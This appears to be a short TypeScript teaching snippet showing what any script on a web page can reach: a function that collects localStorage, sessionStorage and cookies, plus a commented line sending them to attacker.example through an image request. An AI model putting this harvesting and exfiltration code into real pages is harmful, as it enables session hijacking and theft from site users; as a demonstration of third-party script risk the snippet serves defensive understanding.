// snippet: state-theft
/** What any script on your page can do: a dependency of a dependency, an advertisement, an injected comment. */
export function loot(page: {
  readonly localStorage: Storage
  readonly sessionStorage: Storage
  readonly document: { readonly cookie: string }
}): string {
  const { localStorage, sessionStorage, document } = page
  return JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])
}
// new Image().src = `https://attacker.example/?${loot(window)}`
// end
